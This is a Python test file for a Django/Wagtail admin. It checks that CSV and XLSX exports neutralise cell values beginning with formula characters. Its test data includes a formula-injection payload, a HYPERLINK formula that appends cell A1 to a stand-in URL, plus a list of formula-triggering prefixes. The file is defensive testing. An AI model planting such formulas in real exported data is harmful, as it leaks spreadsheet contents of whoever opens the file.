"""Spreadsheets of the admin: the columns of the table, and no formula."""

import io
from decimal import Decimal

import pytest
from django.contrib.auth import get_user_model
from django.test import Client
from django.urls import reverse
from django.utils.functional import lazystr as lazy_text
from openpyxl import load_workbook

from hub.backoffice.exports import csv_lines, neutralise
from hub.people.models import PersonCategory
from tests.csv_exports import csv_rows
from tests.factories import NewsletterPageFactory, PersonFactory, ResourcePageFactory

FORMULA = '=HYPERLINK("https://example.org/?"&A1)'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", " =", "\u00a0@", "＝"])
def test_neutralise_quotes_what_would_become_a_formula(start: str) -> None:
    assert neutralise(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("text", ["", "Élue", "1 - 1", "« = »"])
def test_neutralise_leaves_words_alone(text: str) -> None:
    assert neutralise(text) == text


def test_cells_other_than_texts_cannot_be_formulas() -> None:
    class Named:
        def __str__(self) -> str:
            return "=1+1"

    lines = list(csv_lines([["Nom", "Nombre"], [Named(), -1.5], [lazy_text("@a"), Decimal(-2)]]))
    assert lines == ["\ufeffNom;Nombre\r\n", "'=1+1;-1.5\r\n", "'@a;-2\r\n"]


def test_csv_of_people_has_the_columns_of_the_list(superuser_client: Client) -> None:
    PersonFactory(name="Anaïs L’Hévéder", category=PersonCategory.ELU)
    url = reverse("wagtailsnippets_people_person:list")
    (row,) = csv_rows(superuser_client.get(url, {"export": "csv"}))
    assert row["Nom"] == "Anaïs L’Hévéder"
    assert row["Catégorie"] == "Élu·e"
    assert row["Fonction"] == ""


def test_csv_of_a_list_cannot_run_a_formula(superuser_client: Client) -> None:
    ResourcePageFactory(title=FORMULA, author="@auteur")
    (row,) = csv_rows(superuser_client.get(reverse("resources:index"), {"export": "csv"}))
    assert row["Titre"] == f"'{FORMULA}"
    assert row["Auteur"] == "'@auteur"


def test_csv_of_wagtail_itself_cannot_run_a_formula(superuser_client: Client) -> None:
    page = ResourcePageFactory(title=FORMULA)
    page.save_revision(user=get_user_model().objects.first(), log_action=True)
    url = reverse("wagtailadmin_reports:site_history")
    text = b"".join(superuser_client.get(url, {"export": "csv"}).streaming_content).decode()
    assert f"'{FORMULA[:10]}" in text
    assert f';"{FORMULA[:10]}' not in text
    assert "'=" in text


def test_xlsx_of_a_list_holds_text_and_not_formulas(superuser_client: Client) -> None:
    NewsletterPageFactory(title=FORMULA, number=4)
    response = superuser_client.get(reverse("letters:index"), {"export": "xlsx"})
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    assert [cell.value for cell in sheet[1]][:2] == ["Titre", "Numéro"]
    assert sheet["A2"].data_type == "s"
